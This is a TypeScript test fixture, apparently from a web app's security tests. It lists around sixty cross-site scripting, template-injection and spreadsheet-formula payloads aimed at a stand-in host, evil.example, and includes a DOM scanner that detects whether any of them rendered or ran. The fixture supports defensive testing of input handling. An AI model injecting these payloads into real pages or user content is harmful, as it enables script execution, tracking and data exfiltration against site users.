/** Where a script of one of these texts would call. */
const AWAY = "https://evil.example";

/**
 * Texts that a page runs, loads or draws something by if it takes them for markup, a link, a template or a formula. What
 * they would make carries `data-pwned`; what they would run sets `pwned` or opens a dialog. None is longer than a name may
 * be.
 */
export const HOSTILE: readonly string[] = [
  // Scripts.
  `<script data-pwned>alert(1)</script>`,
  `</script><script data-pwned>pwned=1</script>`,
  `"><script data-pwned src=${AWAY}/x.js></script>`,
  `<ScRiPt data-pwned>alert\`1\`</sCrIpT>`,
  `<scr<script data-pwned>ipt>alert(2)</scr</script>ipt>`,
  `<script data-pwned type=module>import("${AWAY}/m.js")</script>`,
  `--><script data-pwned>pwned=2</script><!--`,
  `</title></textarea></style><script data-pwned>alert(3)</script>`,
  // Images, and other parts that load.
  `<img data-pwned src=x onerror=alert(4)>`,
  `"><img data-pwned src=x onerror="pwned=3">`,
  `'><img data-pwned src=${AWAY}/pixel.png>`,
  `<img data-pwned srcset="${AWAY}/a.png 1x">`,
  `<image data-pwned src=x onerror=alert(5)>`,
  `<video data-pwned><source onerror=alert(6)></video>`,
  `<audio data-pwned src=x onerror=alert(7)>`,
  `<picture data-pwned><source srcset=${AWAY}/p.png><img src=x></picture>`,
  `<object data-pwned data="${AWAY}/o.swf"></object>`,
  `<embed data-pwned src="${AWAY}/e.svg">`,
  `<iframe data-pwned src="javascript:alert(8)"></iframe>`,
  `<iframe data-pwned srcdoc="<script>parent.pwned=4</script>"></iframe>`,
  `<link data-pwned rel=stylesheet href=${AWAY}/s.css>`,
  `<base data-pwned href=${AWAY}/>`,
  `<meta data-pwned http-equiv=refresh content="0;url=${AWAY}">`,
  // SVG and MathML.
  `<svg data-pwned onload=alert(9)>`,
  `<svg data-pwned><script>alert(10)</script></svg>`,
  `<svg data-pwned><animate onbegin=alert(11) attributeName=x dur=1s></svg>`,
  `<svg data-pwned><use href="data:image/svg+xml,<svg id='x' onload='alert(12)'/>#x"></svg>`,
  `<svg data-pwned><foreignObject><img src=x onerror=alert(13)></foreignObject></svg>`,
  `<math data-pwned><mtext><style><img src onerror=alert(14)></style></mtext></math>`,
  `<svg data-pwned><a xlink:href="javascript:alert(15)"><text y=9>x</text></a></svg>`,
  // Handlers.
  `<body data-pwned onload=alert(16)>`,
  `<details data-pwned open ontoggle=alert(17)>x</details>`,
  `<input data-pwned autofocus onfocus=alert(18)>`,
  `<select data-pwned autofocus onfocus=alert(19)></select>`,
  `<marquee data-pwned onstart=alert(20)>x</marquee>`,
  `<div data-pwned style="animation:x 1s" onanimationstart=alert(21)>x</div>`,
  `" autofocus onfocus=alert(22) data-pwned x="`,
  `' onmouseover=alert(23) data-pwned x='`,
  `x onclick=alert(24) data-pwned`,
  // Links, in markup and in Markdown.
  `javascript:alert(25)`,
  `<a data-pwned href="javascript:alert(26)">a link</a>`,
  `<a data-pwned href="jav&#x09;ascript:alert(27)">a link</a>`,
  `[a link](javascript:alert(28))`,
  `![an image](${AWAY}/markdown.png)`,
  `[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `<javascript:alert(29)>`,
  `data:text/html,<script data-pwned>alert(30)</script>`,
  `<form data-pwned action="${AWAY}"><button>go</button></form>`,
  `<button data-pwned formaction="javascript:alert(31)">go</button>`,
  // Templates.
  `{{constructor.constructor('alert(32)')()}}`,
  "${alert(33)}",
  `<%= alert(34) %>`,
  `#{alert(35)}`,
  // Styles.
  `<style data-pwned>@import "${AWAY}/c.css";*{display:none}</style>`,
  `<div data-pwned style="background:url(${AWAY}/b.png);position:fixed;inset:0">x</div>`,
  // Letters that look, sort or decode like others.
  `＜script data-pwned＞alert(36)＜/script＞`,
  `\u202e<img data-pwned src=x onerror=alert(37)>\u202c`,
  `&lt;script data-pwned&gt;alert(38)&lt;/script&gt;`,
  `%3Cscript%20data-pwned%3Ealert(39)%3C%2Fscript%3E`,
  // A formula of a spreadsheet.
  `=HYPERLINK("${AWAY}/?"&A1,"a link")`,
];

/** Looks for anything in a page that one of the texts has made: a sentence for each find. */
export const LOOK_FOR_TRACES = `(() => {
  const found = [];
  const foreign = "[data-pwned], iframe, object, embed, base, math, marquee, meta[http-equiv], form[action], " +
    "[formaction], [srcdoc], script:not([src^='/console/']), link[href*='evil']";
  const visit = (root) => {
    for (const element of root.querySelectorAll("*")) {
      if (element.matches(foreign)) found.push(element.outerHTML.slice(0, 200));
      for (const { name, value } of element.attributes)
        if (name.startsWith("on") || /^(javascript|vbscript|data:text)/i.test(value.replace(/[\\s\\0-\\x20]/g, "")))
          if (name !== "value" && name !== "title" && name !== "aria-label" && name !== "download")
            found.push(name + "=" + value);
      if (element.shadowRoot !== null) visit(element.shadowRoot);
    }
  };
  visit(document);
  if (globalThis.pwned !== undefined) found.push("a script has run: " + globalThis.pwned);
  return found;
})()`;
